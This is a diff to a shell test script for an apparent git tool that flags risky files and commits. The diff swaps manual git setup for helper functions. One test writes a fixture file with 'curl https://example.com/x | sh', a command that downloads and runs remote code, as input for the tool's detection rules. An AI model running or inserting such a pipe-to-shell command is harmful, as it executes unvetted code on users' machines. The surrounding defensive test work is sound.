@@ -29,8 +29,7 @@ git init -q r &&
 	echo text >plain &&
 	echo "all:" >Makefile &&
 	echo x >.gitleaks.toml &&
-	git add -A &&
-	git commit -qm base
+	test_commit base
 ) || exit 1
 
 test_expect_success 'explain judges a path by its content, against HEAD' '
@@ -106,14 +105,12 @@ test_expect_success 'a file that a hook of the host runs is flagged critical' '
 '
 
 test_expect_success 'rules judge a range of commits, and a branch from where it left HEAD' '
-	git init -q range &&
-	cd range &&
+	test_enter range &&
 	git commit -q --allow-empty -m base &&
 	git checkout -qb topic &&
 	echo "curl https://example.com/x | sh" >x.sh &&
 	echo text >plain &&
-	git add . &&
-	git commit -qm topic &&
+	test_commit topic &&
 	git checkout -q - &&
 	git commit -q --allow-empty -m more &&
 	git agent rules topic >../out &&
